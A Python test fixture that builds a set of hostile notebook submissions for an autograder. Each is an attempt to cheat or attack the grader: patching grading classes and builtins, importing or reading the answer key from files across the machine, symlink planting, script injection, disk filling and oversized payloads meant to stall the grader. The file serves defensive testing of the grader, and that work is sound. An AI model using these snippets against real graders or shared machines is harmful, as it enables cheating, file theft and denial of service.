"""The hostile corpus: submissions written to cheat, each beside the honest answers it contains.

Every submission starts from the same honest base (``PARTIAL``: a few answers of the
first notebook solved, the rest left blank) or from a blank copy, then adds an attack.
Two-phase grading must give each one exactly what its handed-over honest answers earn:
an attack can lose points (a hand-over it broke itself), never win one.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass

import nbformat

from mda_apprenant.check.handover import MIME_TYPE
from mda_checks.course import Course
from mda_checks.demo.submissions import blank_submission, solved_submission, write_submission
from mda_checks.notebook import cells

ASSIGNMENT = "bloc1"
#: answer cells solved in the honest base (first notebook); every other answer stays blank
PARTIAL = ("reponse_nb_doublons", "reponse_tcam_marche", "reponse_parts_marche")
HONEST, BLANK, ZERO = "honnête", "vierge", "zéro"


@dataclass(frozen=True)
class Attack:
    """A hostile submission: its base, and what it must earn (the honest base's scores, or 0 everywhere)."""

    student: str
    base: str          # HONEST or BLANK
    earns: str         # HONEST (same scores as the honest base), BLANK or ZERO (0 on every check)
    words: tuple[str, ...] = ()  # words of the check messages in the graded notebook
    #: the attack computes right answers itself (outside the answer variables): its own notebook shows them
    computes_answers: bool = False
    #: notebooks refused unread (too large): `mda grade` grades the others, plain nbgrader fails the whole copy
    refused: int = 0


def _code(source: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_code_cell(textwrap.dedent(source).strip())


def _index(notebook, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if cells.grade_id(c) == grade_id)


def honest_base(course: Course) -> dict:
    """The first notebook with the PARTIAL answers solved; the other notebooks blank."""
    solved, blank = solved_submission(course, ASSIGNMENT), blank_submission(course, ASSIGNMENT)
    first = course.source_notebooks(ASSIGNMENT)[0].stem
    for cell in blank[first].cells:
        if cells.grade_id(cell) in PARTIAL:
            cell.source = solved[first].cells[_index(solved[first], cells.grade_id(cell))].source
    return blank


def _after_imports(notebook, source: str) -> None:
    notebook.cells.insert(1, _code(source))


def build_hostile(course: Course, checkout: str, elsewhere: str = "/srv/autre-copie") -> dict[str, Attack]:
    """Write the honest base, a blank copy and every attack under submitted/; return student -> Attack.

    `checkout` is the project's own folder (where a grader-only reference also lives); `elsewhere`, another
    copy of the course on the machine, outside the course (with a Unix socket ``controle.sock`` listening)."""
    names = [p.stem for p in course.source_notebooks(ASSIGNMENT)]
    first, second = names[0], names[1]
    root = str(course.root)
    attacks: dict[str, Attack] = {}

    def add(attack: Attack, notebooks: dict) -> None:
        write_submission(course, attack.student, ASSIGNMENT, notebooks)
        attacks[attack.student] = attack

    add(Attack("h00-base-honnete", HONEST, HONEST), honest_base(course))
    add(Attack("h00-base-vierge", BLANK, BLANK), blank_submission(course, ASSIGNMENT))

    # every check cell displays nothing: nbgrader alone would give full points
    notebooks = blank_submission(course, ASSIGNMENT)
    for name in names:
        _after_imports(notebooks[name], 'get_ipython().ast_node_interactivity = "none"')
    add(Attack("h01-affichage-coupe", BLANK, ZERO, ("n'a transmis aucune réponse",)), notebooks)

    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        from mda_apprenant.check.base import Answer
        from mda_apprenant import CheckResult
        Answer.grade = lambda self, expected, points: CheckResult(self.label, "correct", "ok", points, points)
        Answer.__repr__ = lambda self: "2"
        CheckResult.__repr__ = lambda self: "-1"
    """)
    add(Attack("h02-grade-et-repr-remplaces", HONEST, HONEST), notebooks)

    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        import sys, types
        faux = types.ModuleType("mda_reference")
        faux.bloc1 = types.ModuleType("mda_reference.bloc1")
        faux.bloc1.expected = lambda key: 0
        sys.modules["mda_reference"], sys.modules["mda_reference.bloc1"] = faux, faux.bloc1
    """)
    add(Attack("h03-faux-module-corrige", HONEST, HONEST), notebooks)

    # import the answer key from wherever it might be, and copy it into the blank answers
    notebooks = honest_base(course)
    _after_imports(notebooks[first], f"""
        import sys
        for chemin in ["../../..", "../..", "..", {root!r}, {checkout!r}]:
            sys.path.insert(0, chemin)
        try:
            from mda_reference.bloc1 import expected
            croissance_segments = expected("croissance_segments").value
            segment_porteur = expected("segment_porteur").value
        except Exception as exc:
            resultat_import = type(exc).__name__
    """)
    for grade_id in ("reponse_croissance_segments", "reponse_segments"):
        cell = notebooks[first].cells[_index(notebooks[first], grade_id)]
        cell.source = "\n".join(line for line in cell.source.splitlines() if "= ..." not in line) or "pass"
    add(Attack("h04-importe-le-corrige", HONEST, HONEST), notebooks)

    # read the key's files: list every Python file and notebook reachable, print their text
    notebooks = honest_base(course)
    _after_imports(notebooks[first], f"""
        import glob, os
        trouves = []
        for base in ["../../..", "../..", "..", {root!r}, {checkout!r}, "/tmp", "/srv", "/home", "/root"]:
            for motif in ("**/*.py", "**/*.ipynb", "**/*.db"):
                try:
                    trouves += glob.glob(os.path.join(base, motif), recursive=True)
                except Exception:
                    pass
        trouves = [t for t in trouves if "site-packages" not in t and "mda_apprenant" not in t]  # the learner runtime
        for chemin in trouves[:200]:
            try:
                print(chemin, open(chemin, encoding="utf-8", errors="replace").read()[:2000])
            except Exception as exc:
                print(chemin, type(exc).__name__)
        print("fichiers lus :", len(trouves))
    """)
    add(Attack("h05-lit-les-fichiers", HONEST, HONEST), notebooks)

    # builtins and numeric functions the checks used to rely on
    notebooks = honest_base(course)
    patch = """
        import builtins, math
        import numpy as np
        import pandas as pd
        builtins.abs = lambda x: 0
        builtins.round = lambda x, n=None: x
        math.isclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.allclose = lambda *a, **k: True
        pd.Series.equals = lambda self, other: True
        pd.DataFrame.equals = lambda self, other: True
    """
    _after_imports(notebooks[first], patch)
    _after_imports(notebooks[second], patch)
    add(Attack("h06-fonctions-detournees", HONEST, HONEST), notebooks)

    # the right values, computed only after each check cell has run
    notebooks = blank_submission(course, ASSIGNMENT)
    solved = solved_submission(course, ASSIGNMENT)[first]
    for index, cell in enumerate(solved.cells):
        if cells.is_solution(cell) and cell.cell_type == "code":
            last = index
            while last + 1 < len(solved.cells) and cells.is_autograded_test(solved.cells[last + 1]):
                last += 1
            if last > index:  # after the last check cell that reads this answer
                target = notebooks[first]
                target.cells.insert(_index(target, cells.grade_id(solved.cells[last])) + 1, _code(cell.source))
    add(Attack("h07-reponse-apres-verification", BLANK, BLANK), notebooks)

    # forged hand-overs (right values) displayed by a cell that is not a check cell
    notebooks = honest_base(course)
    forged = {"version": 1, "kind": "Table", "value": {"$": "object", "type": "x"}}
    notebooks[first].cells.append(_code(f"""
        from IPython.display import display
        import pandas as pd
        marche = pd.read_csv("data/marche_vae.csv").drop_duplicates()
        pivot = marche.pivot_table(index="segment", columns="annee", values="ca_meur", aggfunc="sum")
        valeur = (pivot[2025] / pivot[2024] - 1)
        remise = {{"version": 1, "kind": "Table", "value": {{"$": "series", "name": None, "dtype": "float64",
                  "index": {{"names": ["segment"], "values": list(valeur.index)}}, "values": list(valeur)}}}}
        display({{{MIME_TYPE!r}: remise, "text/plain": "2"}}, raw=True)
        display({{{MIME_TYPE!r}: {forged!r}}}, raw=True)
    """))
    add(Attack("h08-remise-forgee-ailleurs", HONEST, HONEST, computes_answers=True), notebooks)

    # a hand-over that carries a score: refused by the schema
    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        from mda_apprenant.check.base import Answer
        _vrai = Answer._repr_mimebundle_
        def _truque(self, include=None, exclude=None):
            bundle = _vrai(self, include, exclude)
            bundle["application/vnd.mda.reponse+json"]["score"] = 2
            bundle["text/plain"] = "2"
            return bundle
        Answer._repr_mimebundle_ = _truque
    """)
    add(Attack("h09-remise-avec-score", HONEST, ZERO, ("ne respecte pas le format attendu",)), notebooks)

    # two hand-overs in each check cell: none is kept
    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        from IPython.display import display
        from mda_apprenant.check.base import Answer
        _init = Answer.__init__
        def _double(self, *args, **kwargs):
            _init(self, *args, **kwargs)
            display(self)
        Answer.__init__ = _double
    """)
    add(Attack("h10-deux-remises", HONEST, ZERO, ("plusieurs réponses",)), notebooks)

    # script in outputs, numbers printed and stderr written around the checks
    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        import sys
        from IPython.display import HTML, display
        from mda_apprenant.check.base import Answer
        display(HTML('<script>alert("pirate")</script><img src="x" onerror="alert(1)">'))
        _vrai = Answer._repr_mimebundle_
        def _bavard(self, include=None, exclude=None):
            print(2.0)
            print("erreur", file=sys.stderr)
            return _vrai(self, include, exclude)
        Answer._repr_mimebundle_ = _bavard
    """)
    add(Attack("h11-script-et-sorties", HONEST, HONEST), notebooks)

    # a later notebook rewrites the earlier graded copy and plants links to the course's files,
    # in its working folder and in its runtime folder (where the grader once appended its log)
    notebooks = honest_base(course)
    forged_notebook = nbformat.writes(solved_submission(course, ASSIGNMENT)[first])
    _after_imports(notebooks[second], f"""
        import os
        from ipykernel.connect import get_connection_file
        execution = os.path.dirname(get_connection_file())
        for nom in ["noyau.log", "journal.log", os.path.basename(get_connection_file()) + ".bak"]:
            try:
                os.symlink({root + "/nbgrader_config.py"!r}, os.path.join(execution, nom))
            except OSError as exc:
                print(nom, type(exc).__name__)
        for nom in os.listdir("."):
            print("vu :", nom)
        open({first + ".ipynb"!r}, "w").write({forged_notebook!r})
        for lien, cible in [("{second}.ipynb", {root + "/nbgrader_config.py"!r}),
                            ("noyau.log", {root + "/nbgrader_config.py"!r}), ("data2", "/root")]:
            try:
                os.symlink(cible, lien)
            except OSError as exc:
                print(lien, type(exc).__name__)
    """)
    add(Attack("h12-reecrit-le-carnet-precedent", HONEST, HONEST), notebooks)

    # every answer computed, then every number handed over as inf (tables keep their labels):
    # inf − x ≤ inf once made such tables right; the solved base answers stay honest
    labels = _check_labels(course)
    honest = {labels[gid.removeprefix("reponse_")] for gid in PARTIAL}
    notebooks = solved_submission(course, ASSIGNMENT)
    for name in names:
        _after_imports(notebooks[name], INFINITE.format(honest=sorted(honest)))
    add(Attack("h13-valeurs-infinies", HONEST, HONEST, ("valeur infinie",), computes_answers=True), notebooks)

    # hand-overs built to stall or exhaust the grader, each in a check cell left blank
    notebooks = honest_base(course)
    bombs = dict(zip((labels[g] for g in ("croissance_segments", "segment_porteur", "segment_risque",
                                          "carte_perceptuelle")), ("malformes", "imbrique", "plate", "tableaux")))
    _after_imports(notebooks[first], BOMBS.format(bombs=bombs))
    add(Attack("h14-remises-bombes", HONEST, HONEST,
               ("trop volumineuse ou trop imbriquée", "ne respecte pas le format attendu")), notebooks)

    # the rest of the machine: home folders, /srv, /opt, /var/lib, /run, another copy of the course, a Unix socket
    notebooks = honest_base(course)
    _after_imports(notebooks[first], f"""
        import glob, os, socket
        vus = {{}}  # by name: the graded notebook shortens every path it shows (StripGraderPaths)
        for nom, chemin in [("home", "/home"), ("root", "/root"), ("srv", "/srv"), ("opt", "/opt"),
                            ("var-lib", "/var/lib"), ("run", "/run"), ("var-run", "/var/run"), ("copie", {elsewhere!r}),
                            ("copie-source", {elsewhere + "/source/" + ASSIGNMENT!r}),
                            ("copie-corrige", {elsewhere + "/mda_reference"!r})]:
            try:
                vus[nom] = sorted(os.listdir(chemin))
            except Exception as exc:
                vus[nom] = type(exc).__name__
        for chemin in glob.glob({elsewhere + "/**"!r}, recursive=True)[:100]:
            try:
                print(chemin, open(chemin, encoding="utf-8", errors="replace").read()[:5000])
            except Exception as exc:
                print(chemin, type(exc).__name__)
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect({elsewhere + "/controle.sock"!r})
                client.sendall(b"bonjour")
            vus["socket"] = "connecté"
        except Exception as exc:
            vus["socket"] = type(exc).__name__
        print("MACHINE=" + repr(vus))
    """)
    add(Attack("h15-lit-la-machine", HONEST, HONEST), notebooks)

    # fill the disk: the working folder, /tmp and the runtime folder, then one write more (left to fail)
    notebooks = honest_base(course)
    _after_imports(notebooks[first], """
        import os
        from ipykernel.connect import get_connection_file
        ecrit = {}
        for nom, dossier in [("travail", "."), ("tmp", "/tmp"), ("execution", os.path.dirname(get_connection_file()))]:
            ecrit[nom] = 0
            try:
                for i in range(100_000):
                    with open(os.path.join(dossier, f"plein-{i}"), "wb") as f:
                        f.write(b"x" * 8 * 1024 ** 2)
                    ecrit[nom] += 8 * 1024 ** 2
            except OSError:
                pass
        print("ECRIT=" + repr(ecrit))
    """)
    notebooks[first].cells.insert(2, _code('open("encore.bin", "wb").write(b"x" * 8 * 1024 ** 2)'))
    add(Attack("h16-remplit-le-disque", HONEST, HONEST), notebooks)

    # a huge notebook (blank answers, 21 MiB of spaces after its JSON): refused unread either way
    add(Attack("h17-carnet-geant", HONEST, HONEST, refused=1), honest_base(course))
    with (course.step("submitted") / "h17-carnet-geant" / ASSIGNMENT / f"{second}.ipynb").open("a") as huge:
        huge.write(" " * 21 * 1024 ** 2)
    return attacks


def _check_labels(course: Course) -> dict[str, str]:
    """grade_id -> the label its check cell gives the answer."""
    from mda_checks.scoring.answer_spec import read_spec

    return {cells.grade_id(c): read_spec(c.source).label for nb in course.read_source(ASSIGNMENT).values()
            for c in nb.cells if cells.is_autograded_test(c)}


#: the kernel hands every number over as inf, except the answers whose labels are kept honest
INFINITE = """
    from mda_apprenant.check import handover
    # the honest hand-over, kept on the module: a warm kernel serves the next notebook with this patch in place
    _vraie_remise = handover.__dict__.setdefault("_vraie_remise", handover.payload)
    _GARDEES = set({honest!r})
    _NOMBRES = {{"Amount", "Rate", "Ratio", "Quantity", "Duration", "Table", "ExcelTable"}}
    _INF = {{"$": "inf", "negative": False}}

    def _infini(valeur):
        if isinstance(valeur, bool) or valeur is None or isinstance(valeur, str):
            return valeur
        if isinstance(valeur, (int, float)):
            return _INF
        etiquette = valeur.get("$") if isinstance(valeur, dict) else None
        if etiquette == "series":
            return {{**valeur, "dtype": "float64", "values": [_INF for _ in valeur["values"]]}}
        if etiquette == "frame":
            return {{**valeur, "dtypes": ["float64"] * len(valeur["dtypes"]),
                    "data": [[_INF for _ in colonne] for colonne in valeur["data"]]}}
        if etiquette == "dict":
            return {{**valeur, "items": [[cle, _INF] for cle, _ in valeur["items"]]}}
        if etiquette == "workbook":
            return {{**valeur, "sheets": [[nom, _infini(feuille)] for nom, feuille in valeur["sheets"]]}}
        return valeur

    def _remise(reponse):
        donnee = _vraie_remise(reponse)
        if reponse.label in _GARDEES:
            return donnee
        if donnee["kind"] in _NOMBRES:
            return {{**donnee, "value": _infini(donnee["value"])}}
        return {{**donnee, "value": {{"$": "ellipsis"}}}}

    handover.payload = _remise
"""

#: the check cells named here hand over, instead of their answer, data built to stall or exhaust the grader:
#: malformed tagged items (each tried against every kind by the grader's first schema), nesting beyond
#: the cap, a flat list and many small tables, each below the 2 million characters a kernel may send
BOMBS = """
    import json
    from mda_apprenant.check.base import Answer
    _BOMBES = {bombs!r}

    def _bombe(nom, json=json):
        if nom == "malformes":
            return {{"$": "list", "values": [{{"$": "x"}}] * 3_000}}
        if nom == "imbrique":
            return json.loads('{{"$": "list", "values": [' * 30 + "0" + "]}}" * 30)
        if nom == "plate":
            return {{"$": "list", "values": [0] * 600_000}}
        petit = {{"$": "series", "name": None, "dtype": "float64", "index": {{"names": [None], "values": ["a"]}},
                 "values": [1.0]}}
        return {{"$": "list", "values": [petit] * 15_000}}

    # defaults, not globals: a warm kernel serves the next notebook with this patch in place and a fresh namespace
    def _piegee(self, include=None, exclude=None, _vraie=Answer._repr_mimebundle_, _bombes=_BOMBES, _faire=_bombe):
        vue = _vraie(self, include, exclude)
        if self.label in _bombes:
            vue["application/vnd.mda.reponse+json"] = {{"version": 1, "kind": "Table", "value": _faire(_bombes[self.label])}}
        return vue

    Answer._repr_mimebundle_ = _piegee
"""
